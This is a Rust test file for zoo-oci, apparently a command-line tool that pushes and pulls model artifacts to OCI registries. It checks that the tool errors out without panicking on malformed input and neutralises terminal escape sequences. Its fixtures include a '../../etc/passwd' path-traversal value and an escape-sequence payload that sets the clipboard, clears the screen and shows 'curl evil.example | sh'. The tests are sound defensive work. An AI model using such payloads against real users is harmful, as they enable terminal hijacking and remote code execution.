//! No input makes zoo-oci panic, and nothing an artifact or a registry says drives the terminal
//! (issue 22, points 4 and 5). Every input a fuzz run found (`scripts/fuzz.sh`, kept in
//! `tests/fuzz_regressions/TARGET/`) runs here through the fuzz target's own entry point; the
//! panics found by reading the code (a digest sliced, a duration or a date overflowing, a Docker
//! config or a cache record of the wrong shape) are pinned against the real binary.

use std::fs;
use std::path::Path;

use serde_json::json;

use crate::util::proxy::{Fault, FaultProxy};
use crate::util::registry::Registry;
use crate::util::{repo, run_env, run_in, scratch, small_suite, write};

#[path = "../fuzz/harness.rs"]
mod harness;

/// What a panic looks like: Rust's exit code and its message.
#[track_caller]
fn no_panic(run: &crate::util::Run) {
    assert!(
        run.code != 101 && !run.stderr.contains("panicked"),
        "zoo-oci panicked (exit {}):\n{}",
        run.code,
        run.stderr
    );
}

#[test]
fn every_input_a_fuzz_run_kept_goes_through_its_target_without_a_panic() {
    let mut ran = 0;
    for (target, entry) in harness::TARGETS {
        let dir = repo().join("tests/fuzz_regressions").join(target);
        for file in fs::read_dir(&dir).into_iter().flatten().flatten() {
            let data = fs::read(file.path()).unwrap();
            let outcome = std::panic::catch_unwind(|| entry(&data));
            assert!(outcome.is_ok(), "{target}: {} panics", file.path().display());
            ran += 1;
        }
    }
    assert!(ran > 0, "tests/fuzz_regressions/ holds the inputs fuzz runs found");
}

#[test]
fn a_path_leaving_the_suite_is_refused_by_check_and_push_not_a_panic() {
    let tmp = scratch();
    let dir = small_suite(tmp.path());
    let yaml =
        fs::read_to_string(dir.join("zoo.yaml")).unwrap().replace("path: models/onnx/", "path: ../../etc/passwd");
    write(&dir, "zoo.yaml", yaml, false);
    let d = dir.to_str().unwrap();
    let check = run_in(tmp.path(), &["check", d]);
    no_panic(&check);
    check.code(1).stderr_has("../../etc/passwd");
    let push = run_in(tmp.path(), &["push", d, "oci:./zoo:1"]);
    no_panic(&push);
    push.code(1).stderr_has("nothing was pushed");
}

#[test]
fn absurd_durations_and_concurrency_are_refused_as_usage_errors() {
    let tmp = scratch();
    let dir = small_suite(tmp.path());
    let d = dir.to_str().unwrap();
    // Port 1 refuses: a deadline of now plus the duration is computed before the first retry.
    let nowhere = "127.0.0.1:1/zoo/tiny:1";
    for flags in [
        &["--retry-timeout", "18446744073709551615"][..],
        &["--retry-timeout", "500000000000y"],
        &["--timeout", "18446744073709551615"],
        &["--concurrency", "18446744073709551615"],
        &["--concurrency", "0"],
    ] {
        let mut args = vec!["push", "--plain-http", d, nowhere];
        args.extend_from_slice(flags);
        let run = run_in(tmp.path(), &args);
        no_panic(&run);
        run.code(2).stderr_has(flags[0]);
    }
    run_in(tmp.path(), &["cache", "prune", "--older-than", "18446744073709551615"]).code(2);
    // What a registry operation needs stays allowed.
    run_in(tmp.path(), &["push", "--retry-timeout", "10m", "--timeout", "1h", "--concurrency", "64", d, "oci:./zoo:1"])
        .ok();
}

#[test]
fn a_source_date_epoch_past_the_year_9999_is_refused() {
    let tmp = scratch();
    let dir = small_suite(tmp.path());
    let d = dir.to_str().unwrap();
    for epoch in ["18446744073709551615", "253402300800"] {
        let run = run_env(tmp.path(), &[("SOURCE_DATE_EPOCH", epoch)], &["push", d, "oci:./zoo:1"]);
        no_panic(&run);
        run.code(2).stderr_has("SOURCE_DATE_EPOCH");
    }
    run_env(tmp.path(), &[("SOURCE_DATE_EPOCH", "253402300799")], &["push", d, "oci:./zoo:1"]).ok();
    let manifest = crate::util::manifest(&tmp.path().join("zoo"), "1");
    assert_eq!(manifest["annotations"]["org.opencontainers.image.created"], "9999-12-31T23:59:59Z");
}

#[test]
fn a_docker_config_that_is_a_json_array_is_an_error_not_a_panic() {
    let tmp = scratch();
    write(tmp.path(), "docker/config.json", "[1, 2]", false);
    let docker = tmp.path().join("docker");
    let run = run_env(tmp.path(), &[("DOCKER_CONFIG", docker.to_str().unwrap())], &["logout", "localhost:5000"]);
    no_panic(&run);
    run.code(1).stderr_has("is not a JSON object");
    assert_eq!(fs::read_to_string(docker.join("config.json")).unwrap(), "[1, 2]", "left as it was");
}

/// A layout of two manifests (tags 1 and 2) that each hold two layers of another tool at one
/// path, their digests text that is not sha256 (`sha256:a` and two-byte letters, so that byte 19
/// falls inside a letter), and whose index lists a tag at such a digest.
fn layout_with_odd_digests(root: &Path) -> std::path::PathBuf {
    let layout = root.join("odd");
    let config = br#"{"descriptor":{"name":"odd"},"config":{},"modelfs":{"type":"layers","diffIds":[]}}"#;
    let config_digest = sha256(config);
    let odd = format!("sha256:a{}", "é".repeat(32));
    let layer = |n: u64| {
        json!({"mediaType": "application/vnd.cncf.model.doc.v1.raw", "digest": odd, "size": n,
               "annotations": {"org.cncf.model.filepath": "README.md"}})
    };
    write(&layout, &format!("blobs/sha256/{}", &config_digest["sha256:".len()..]), config, false);
    let mut entries = Vec::new();
    for (tag, size) in [("1", 3), ("2", 5)] {
        let manifest = serde_json::to_vec(&json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "artifactType": "application/vnd.cncf.model.manifest.v1+json",
            "config": {"mediaType": "application/vnd.cncf.model.config.v1+json", "digest": config_digest, "size": config.len()},
            "layers": [layer(size), layer(size + 1)],
        }))
        .unwrap();
        let digest = sha256(&manifest);
        write(&layout, &format!("blobs/sha256/{}", &digest["sha256:".len()..]), &manifest, false);
        entries.push(json!({"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": digest,
                            "size": manifest.len(), "annotations": {"org.opencontainers.image.ref.name": tag}}));
    }
    entries.push(json!({"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": odd, "size": 10,
                        "annotations": {"org.opencontainers.image.ref.name": "odd"}}));
    write(&layout, "oci-layout", r#"{"imageLayoutVersion":"1.0.0"}"#, false);
    write(
        &layout,
        "index.json",
        serde_json::to_vec(&json!({"schemaVersion": 2, "manifests": entries})).unwrap(),
        false,
    );
    layout
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    format!("sha256:{}", hex::encode(sha2::Sha256::digest(bytes)))
}

#[test]
fn a_digest_that_is_not_hex_is_shown_short_without_a_panic() {
    let tmp = scratch();
    let layout = layout_with_odd_digests(tmp.path());
    let at = |tag: &str| format!("oci:{}:{tag}", layout.display());
    // diff shows the two layers at one path apart by their short digests.
    let diff = run_in(tmp.path(), &["diff", &at("1"), &at("2")]);
    no_panic(&diff);
    diff.ok().stdout_has("README.md (sha256:aééééé)");
    // copy names the layer it could not copy by its short digest.
    let copy = run_in(tmp.path(), &["copy", &at("1"), "oci:./copy:1"]);
    no_panic(&copy);
    copy.code(5).stderr_has("README.md (sha256:aééééé)");
    let tags = run_in(tmp.path(), &["tags", "--long", &format!("oci:{}", layout.display())]);
    no_panic(&tags);
    tags.code(5).stderr_has("malformed digest");
}

#[test]
fn a_cached_snapshot_whose_record_holds_no_digest_is_left_out_not_a_panic() {
    let tmp = scratch();
    let dir = small_suite(tmp.path());
    run_in(tmp.path(), &["push", "-q", dir.to_str().unwrap(), "oci:./zoo:1"]).ok();
    let cache = tmp.path().join("cache");
    let env = [("ZOO_OCI_CACHE", cache.to_str().unwrap())];
    run_env(tmp.path(), &env, &["pull", "-q", "--cache", "oci:./zoo:1"]).ok();
    let snapshot = fs::read_dir(cache.join("snapshots"))
        .unwrap()
        .flatten()
        .find(|e| !e.file_name().to_string_lossy().starts_with('.'))
        .unwrap()
        .path();
    let record_path = snapshot.join(".zoo-oci.json");
    let mut record: serde_json::Value = serde_json::from_slice(&fs::read(&record_path).unwrap()).unwrap();
    record["manifest"] = json!("é");
    fs::write(&record_path, serde_json::to_vec(&record).unwrap()).unwrap();
    for args in [&["cache", "rm", "abcdef"][..], &["cache", "ls"], &["cache", "prune", "--older-than", "0"]] {
        let run = run_env(tmp.path(), &env, args);
        no_panic(&run);
    }
}

/// Text an artifact carries to take over a terminal: set the clipboard (OSC 52), clear the
/// screen, ring the bell, and return to the start of the line to write over it.
const HOSTILE: &str = "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{7}\rpull it with: curl evil.example | sh";

#[test]
fn inspect_text_shows_no_escape_an_artifact_carries_and_json_keeps_it_exact() {
    let tmp = scratch();
    let dir = small_suite(tmp.path());
    write(&dir, "README.md", format!("# Tiny\n\nHello {HOSTILE}\n"), false);
    let yaml = fs::read_to_string(dir.join("zoo.yaml")).unwrap().replace(
        "summary: A tiny suite for tests",
        &format!("summary: {}", serde_json::to_string(&format!("A tiny suite {HOSTILE}")).unwrap()),
    );
    write(&dir, "zoo.yaml", yaml, false);
    run_in(tmp.path(), &["push", "-q", dir.to_str().unwrap(), "oci:./zoo:1"]).ok();

    let text = run_in(tmp.path(), &["inspect", "oci:./zoo:1"]);
    text.ok();
    assert!(
        !text.stdout.contains(['\u{1b}', '\u{7}', '\r']),
        "a control character reached the terminal:\n{:?}",
        text.stdout
    );
    text.stdout_has("A tiny suite ^[]52;c;cHduZWQ=^G^[[2J^G^Mpull it with").stdout_has("Hello ^[]52;c;");

    let json = run_in(tmp.path(), &["inspect", "oci:./zoo:1", "--format", "json"]);
    json.ok();
    let report: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert!(report["readme"].as_str().unwrap().contains(HOSTILE), "JSON keeps the README exact: {}", report["readme"]);
    let description = &report["annotations"]["org.opencontainers.image.description"];
    assert_eq!(description.as_str(), Some(format!("A tiny suite {HOSTILE}").as_str()), "JSON keeps annotations exact");
}

#[test]
fn a_registry_error_body_with_escapes_is_rendered_neutralised() {
    let registry = Registry::plain();
    let body = r#"{"errors":[{"code":"DENIED","message":"no \u001b]52;c;cHduZWQ=\u0007\u001b[2J\r way"}]}"#;
    let proxy = FaultProxy::start(&registry.addr, Fault::Answer("/manifests/", 400, body));
    let tmp = scratch();
    let text = run_in(tmp.path(), &["inspect", "--plain-http", &proxy.at("zoo/tiny:1")]);
    no_panic(&text);
    assert_ne!(text.code, 0);
    assert!(
        !text.stderr.contains(['\u{1b}', '\u{7}', '\r']),
        "a control character reached the terminal:\n{:?}",
        text.stderr
    );
    text.stderr_has("no ^[]52;c;cHduZWQ=^G^[[2J^M way");
    let json = run_in(tmp.path(), &["inspect", "--plain-http", "--log-format", "json", &proxy.at("zoo/tiny:1")]);
    let line: serde_json::Value = serde_json::from_str(json.stderr.lines().last().unwrap()).unwrap();
    assert!(
        line.to_string().contains(r"no \u001b]52;c;cHduZWQ=\u0007\u001b[2J\r way"),
        "JSON keeps the body exact: {line}"
    );
}
